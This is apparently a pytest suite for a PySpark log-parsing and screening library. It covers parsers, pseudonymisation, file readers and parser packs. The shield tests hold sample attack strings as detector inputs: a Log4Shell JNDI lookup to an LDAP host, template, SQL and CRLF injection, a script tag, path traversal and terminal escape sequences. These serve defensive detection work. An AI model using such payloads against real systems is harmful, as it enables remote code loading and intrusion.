"""Golden lines: shield, parsers, packs, cleaning, pseudonyms, readers."""

import pytest
from pyspark.sql import functions as F

from logsluice.functions.columns import lookup
from logsluice.operators import normalize as N
from logsluice.operators import packs as K
from logsluice.operators import parsers as P
from logsluice.operators import pipeline as L
from logsluice.operators import shield as S
from logsluice.sources import files, json_index

LINES = {
    "sshd": "Mar  4 06:07:08 app-03 sshd[811]: Failed password for kim from 192.0.2.50 port 40001 ssh2",
    "web": '198.51.100.7 - - [04/Mar/2026:06:07:08 +0000] "GET /x HTTP/1.1" 503 77 "-" "curl/8.0"',
    "timed": '198.51.100.7 - - [04/Mar/2026:06:07:08 +0000] "GET /x HTTP/1.1" 503 77 "-" "curl/8.0" "-" rt=0.010 uct="0.001" urt="0.009"',
    "net": "Mar  4 06:07:08 edge kernel: [1.5] IPTABLES DROP IN=eth0 OUT= SRC=192.0.2.50 DST=203.0.113.9 LEN=60 PROTO=TCP SPT=40001 DPT=22 SYN",
    "vendor": "date=2026-03-04 time=06:07:08 devname=fw-9 action=deny srcip=192.0.2.50 dstip=203.0.113.9 dstport=22 proto=6 service=SSH",
    "json": '{"ts":"2026-03-04T06:07:08Z","level":"warning","logger":"auth","event":"login_failed","user":"kim","src_ip":"192.0.2.50"}',
    "syslog": "<34>Mar  4 06:07:08 gw systemd[1]: Started nightly job",
    "text": "free text without any structure today",
    "pipe": "2026-03-04T06:07:08Z|db-02|kim|192.0.2.50|login_failed",
    "bad": "Mar 32 99:99:99 db-02 sshd[1]: Failed password for kim from 999.1.1.1 port 999999 ssh2",
}


@pytest.fixture(scope="module")
def done(spark):
    raw = spark.createDataFrame([("j", k, i, v) for i, (k, v) in enumerate(LINES.items())], "job_id string, source_name string, line_number long, content string")
    rows = L.processed(raw.withColumn("received_at", F.lit("2026-06-01 00:00:00").cast("timestamp"))).withColumn("at", F.col("timestamp").cast("string")).collect()
    return {r["source_name"]: r for r in rows}


@pytest.mark.parametrize(
    ("name", "want"),
    [
        ("sshd", {"parser": "linux_auth", "event_type": "authentication_failure", "username": "kim", "source_ip": "192.0.2.50", "source_port": 40001, "host": "app-03", "service": "ssh", "action": "login", "status": "failure", "confidence": 0.979, "at": "2026-03-04 06:07:08"}),
        ("web", {"format": "APACHE_COMBINED", "event_type": "http_request", "http_method": "GET", "url": "/x", "response_code": 503, "severity": "high", "status": "failure", "action": "request", "protocol": "tcp", "username": None}),
        ("timed", {"format": "NGINX_ACCESS", "response_code": 503}),
        ("net", {"format": "FIREWALL", "event_type": "connection_denied", "action": "deny", "status": "blocked", "severity": "medium", "source_port": 40001, "destination_port": 22, "protocol": "tcp"}),
        ("vendor", {"event_type": "connection_denied", "host": "fw-9", "protocol": "tcp", "destination_port": 22, "at": "2026-03-04 06:07:08"}),
        ("json", {"format": "JSON", "event_type": "authentication_failure", "severity": "medium", "process": "auth", "action": "login", "status": "failure", "message": LINES["json"]}),
        ("syslog", {"format": "SYSLOG", "severity": "critical", "process": "systemd", "event_type": "generic"}),
        ("text", {"format": "GENERIC_TEXT", "format_confidence": 0.3, "parser": "raw", "processing_status": "partial", "message": LINES["text"]}),
        ("pipe", {"format": "PIPE_DELIMITED", "username": "kim", "host": "db-02"}),
        ("bad", {"source_ip": None, "source_port": None, "timestamp": None, "disposition": "PROCESSED"}),
    ],
)
def test_events(done, name, want):
    assert {k: done[name][k] for k in want} == want


def test_bad_values_are_kept(done):
    assert {"timestamp_raw", "source_ip_raw", "source_port_raw"} <= set(done["bad"]["fields"])


@pytest.mark.parametrize(
    ("line", "verdict", "quarantine", "types"),
    [
        ("${jndi:ldap://198.51.100.9/a}", "WEAPONIZED_LOG", True, ["log4shell", "template_injection"]), ("${env:HOME}", "SUSPICIOUS", True, ["template_injection"]),
        (r"\x1b[31m", "SUSPICIOUS", True, ["literal_escape_seq"]), ("\x1b[31m\x00", "WEAPONIZED_LOG", True, ["terminal_escape_sequence", "dangerous_control_chars"]),
        ("' OR 1=1", "SUSPICIOUS", False, ["sql_injection"]), ("<script>", "SUSPICIOUS", False, ["script_tag"]), ("../../../", "SUSPICIOUS", False, ["path_traversal"]),
        (r"\r\n Mar  4 06:07:08 x", "SUSPICIOUS", True, ["crlf_injection"]), (LINES["sshd"], "SAFE", False, []), (None, "SAFE", False, []),
    ],
)
def test_shield(spark, line, verdict, quarantine, types):
    r = S.screen(spark.createDataFrame([(line,)], "content string")).first()
    assert (r["verdict"], r["quarantine"], [i["type"] for i in r["indicators"]]) == (verdict, quarantine, types)


@pytest.mark.parametrize("pack", K.PACKS, ids=lambda p: p.name)
def test_packs(spark, pack):
    assert K.failed_tests(spark, pack) == [] and K.problems(pack) == []


def test_bad_packs(tmp_path):
    (tmp_path / "a.yaml").write_text("parser: {name: x, format: X}\npatterns: ['(?P<a>']\n")
    (tmp_path / "b.yaml").write_text("parser: {name: json, format: X}\npatterns: ['a']\n")
    (tmp_path / "c.yml").write_text("parser: {name: ok, format: X}\npatterns: ['^(?P<a_b>x)(y)(?P<c>z)$']\n")
    good, bad = K.load_packs(str(tmp_path))
    assert [p.name for p in good] == ["ok"] and len(bad) == 2
    assert K.positional(good[0].patterns[0]) == ("^(x)(?:y)(z)$", ["a_b", "c"])


def test_pseudonyms(spark):
    cfg = N.PiiConfig(mode="DETERMINISTIC_HASH", key="test-pii-key")
    assert [N.pseudonym_of(v, k, cfg) for v, k in (("192.0.2.50", "ip"), (" Admin ", "username"), ("kim@corp.example", "email"), ("db-02", "host"))] == ["IP_63C939", "USER_E1B4B8", "EMAIL_85FB8D", "HOST_7397F0"]
    row = spark.createDataFrame([("192.0.2.50", "administrator", "kim@corp.example", "2001:db8::1")], "source_ip string, username string, email string, destination_ip string")
    assert N.protect(row, cfg).first()["source_ip"] == "IP_63C939"
    m = N.protect(row, N.PiiConfig(mode="MASK")).first()
    assert (m["source_ip"], m["username"], m["email"], m["destination_ip"]) == ("192.0.x.x", "a***", "k***@corp.example", "2001:xxxx::xxxx")


def test_readers(spark, tmp_path):
    (tmp_path / "a.log").write_bytes("one\r\ntwo\x0b\n\nthré\n".encode("latin-1"))
    (tmp_path / "b.bin").write_bytes(b"skipped")
    got = [(r["line_number"], r["content"], r["is_blank"]) for r in files.read_lines(spark, str(tmp_path)).orderBy("line_number").collect()]
    assert got == [(1, "one", False), (2, "two", False), (3, "", True), (4, "", True), (5, "thré", False)]
    (tmp_path / "j").mkdir()
    (tmp_path / "j/x.json").write_text('{"events": [{"a": 1}, {"a": 2}]}')
    (tmp_path / "j/y.json").write_text('[{"b": 1}]')
    (tmp_path / "j/z.ndjson").write_text('{"c": 1}\n{"c": 2}\n')
    assert sorted(r["content"] for r in json_index.read_json(spark, str(tmp_path / "j")).collect()) == ['{"a":1}', '{"a":2}', '{"b":1}', '{"c": 1}', '{"c": 2}']
    (tmp_path / "t.csv").write_text("a, b\n1, x y\n2,\n")
    assert sorted(r["content"] for r in files.read_csv(spark, str(tmp_path / "t.csv")).collect()) == ['a=1 b="x y"', "a=2"]
    with pytest.raises(ValueError, match="NOT_CONFIGURED"):
        files.adapter(spark, "SYSLOG")


def test_formats_by_file(spark):
    rows = [("f", i, LINES["sshd"]) for i in range(3)] + [("g", 1, LINES["text"])]
    got = {r["file"]: r["format"] for r in P.file_format(spark.createDataFrame(rows, "file string, line_number int, content string"), ["file"]).collect()}
    assert got == {"f": "LINUX_AUTH", "g": "GENERIC_TEXT"}


def test_lines_of_split_files(spark, tmp_path):
    texts = {"a.log": "﻿one\r\ntwo\n\nfour\x0bfive\nsix".encode(), "b.txt": b"caf\xe9\n" + b"x\n" * 500, "e.csv": b"a,b,c\n1,2,3\n4,\"5,5\",6\n", "g.bin": b"zz"}
    for name, raw in texts.items():
        (tmp_path / name).write_bytes(raw)
    old = {k: spark.conf.get(k) for k in ("spark.sql.files.maxPartitionBytes", "spark.sql.files.openCostInBytes")}
    spark.conf.set("spark.sql.files.maxPartitionBytes", "300")
    spark.conf.set("spark.sql.files.openCostInBytes", "1")
    try:
        rows = files.read_lines(spark, str(tmp_path)).collect()
        formats = {r["file"][-5:]: r["format"] for r in P.file_format(files.read_lines(spark, str(tmp_path)), ["file"]).collect()}
    finally:
        for k, v in old.items():
            spark.conf.set(k, v)
    for name, encoding in (("a.log", "utf-8-sig"), ("b.txt", "latin-1"), ("e.csv", "utf-8")):
        got = sorted((r["line_number"], r["content"]) for r in rows if r["file"].endswith(name))
        assert got == list(enumerate(texts[name].decode(encoding).splitlines(), 1))
    assert formats["e.csv"] == "CSV" and formats["b.txt"] == "GENERIC_TEXT"
    assert [(r["bytes"], r["reason"]) for r in files.rejected(spark, str(tmp_path)).collect()] == [(2, "unknown extension")]
    assert sorted(r["extension"] for r in files.listing(spark, str(tmp_path)).where("accepted").collect()) == ["csv", "log", "txt"]


def test_deep_json(spark):
    deep, want = '{"user":"kim","a":{"b":{"c":{"d":{"e":{"leaf":"found"}}}}}}', {"username": "kim", "leaf": "found"}
    rows = spark.createDataFrame([(deep,)], "content string")
    assert P.parse(P.detect(rows)).first()["fields"] == want


def test_pack_versions(spark):
    text = "parser: {{name: demo, format: DEMO, version: '{}'}}\npatterns: ['^demo (?P<host>\\S+)$']\n"
    table = spark.createDataFrame([(text.format("1.9.0"), True), (text.format("1.10.0"), True), (text.format("2.0.0"), False), ("parser: {name: bad}", True)], "definition string, active boolean")
    good, bad = K.packs_from(table)
    assert [p.version for p in K.latest(good)] == ["1.10.0"] and len(bad) == 1
    assert [p.version for p in K.latest(good, {("demo", "1.10.0")})] == ["1.9.0"]
    parsers = K.registry(good)
    row = P.parse(P.detect(spark.createDataFrame([("demo db-1",)], "content string"), parsers=parsers), parsers=parsers).first()
    assert (row["parser"], row["parser_version"], row["fields"]["host"]) == ("demo", "1.10.0", "db-1")


def test_copies_do_not_share_a_task(spark):
    lines = spark.range(4000).select(F.lit("j").alias("job_id"), F.col("id").alias("line_number"), F.lit("the same line").alias("content"))
    rows = L.duplicates(lines).withColumn("task", F.spark_partition_id())
    spark.conf.set("spark.sql.adaptive.coalescePartitions.enabled", "false")  # so few lines would be put together again
    at = {r["task"]: r["count"] for r in rows.groupBy("task").count().collect()}
    spark.conf.unset("spark.sql.adaptive.coalescePartitions.enabled")
    assert len(at) > 1 and max(at.values()) < 3000
    assert rows.where("NOT duplicate").select("line_number").collect() == [(0,)]


def test_only_times_are_read_as_times(spark):
    """A field of no known kind must not reach the liberal reading of times: AND would evaluate it after a null."""
    df = spark.createDataFrame([({"note": "5 Jan 2024 10:00", "time": "no time", "date": "2024-01-05"},)], "fields map<string,string>")
    done = N.cleaned(df, "2024-12-31 00:00:00")
    assert done.first()["fields"] == {"note": "5 Jan 2024 10:00", "time_raw": "no time", "date": "2024-01-05"}
    plan = done._jdf.queryExecution().optimizedPlan().toString()
    assert "kind = t) THEN" in plan and "kind = t) AND" not in plan


def test_lookup_by_length(spark):
    table = {"a": "1", "bb": "2", "cc": "3", "dddd": "4"}
    df = spark.createDataFrame([(x,) for x in ("a", "bb", "cc", "dddd", "", "b", "ddd", "eeeee", None)], "k string")
    assert [r[0] for r in df.select(lookup(F.col("k"), table)).collect()] == ["1", "2", "3", "4", None, None, None, None, None]
